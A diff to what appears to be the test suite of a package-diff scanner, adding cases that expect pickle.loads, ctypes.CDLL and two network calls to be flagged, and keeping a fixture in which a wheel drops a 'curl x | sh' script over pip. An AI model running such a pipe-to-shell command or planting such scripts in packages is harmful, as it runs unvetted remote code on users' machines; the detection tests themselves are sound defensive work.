@@ -336,6 +336,23 @@ def test_a_long_detail_is_whole_or_says_how_much_is_cut(tmp_path: Path) -> None:
     )
 
 
+@pytest.mark.parametrize(
+    ("call", "detail"),
+    [
+        ("pickle.loads(blob)", "pickle.loads() loads a pickle, which can run any code (line 2)"),
+        ("ctypes.CDLL(path)", "ctypes.CDLL() loads a native library (line 2)"),
+        ("socket.getaddrinfo(host, 443)", "socket.getaddrinfo() reaches the network (line 2)"),
+        ("webbrowser.open(url)", "webbrowser.open() reaches the network (line 2)"),
+    ],
+)
+def test_loads_that_run_code_and_more_network_calls(tmp_path: Path, call: str, detail: str) -> None:
+    module_name = call.partition(".")[0]
+    new = {"demo/core.py": f"import {module_name}\n{call}\n"}
+    assert find(tmp_path, {"demo/core.py": "x = 1\n"}, new, "wheel") == [
+        ("exec", "demo/core.py", detail)
+    ]
+
+
 def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
     """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
     new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
